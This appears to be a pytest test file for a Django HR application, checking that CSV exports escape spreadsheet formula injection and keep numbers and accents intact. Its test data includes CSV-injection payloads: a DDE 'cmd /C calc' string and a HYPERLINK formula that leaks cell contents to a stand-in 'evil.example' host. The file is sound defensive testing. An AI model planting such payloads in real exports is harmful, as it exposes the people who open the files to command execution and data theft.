"""CSV exports open safely in a spreadsheet (issue 11, item 2): text that starts like a
formula is shown as text, numbers stay numbers, and a UTF-8 BOM makes Excel read accents."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from careerpath.input import csv_cell
from people.tests.factories import EmployeeFactory


@pytest.mark.parametrize(
    "value,expected",
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        # Numbers run nothing and stay readable as numbers.
        (-3, -3),
        ("-3", "-3"),
        ("-3.5", "-3.5"),
        ("+1e3", "+1e3"),
        (2.5, 2.5),
        ("Support", "Support"),
        ("Café = good", "Café = good"),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_text(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.django_db
def test_the_hr_report_exports_a_formula_team_as_text(seeded, hr):
    EmployeeFactory(team='=HYPERLINK("http://evil.example/?leak="&A1,"Click")')
    EmployeeFactory(team="Équipe Zürich")
    client = Client()
    client.force_login(hr)
    response = client.get(reverse("promotions:reports"), {"export": "levels"})
    assert response.status_code == 200
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM, once
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["framework", "level", "team", "people"]
    teams = {row[2] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in teams
    assert "Équipe Zürich" in teams
    assert all(not team.startswith(("=", "+", "-", "@")) for team in teams)
    assert {row[3] for row in rows[1:]} == {"1"}  # counts stay numbers
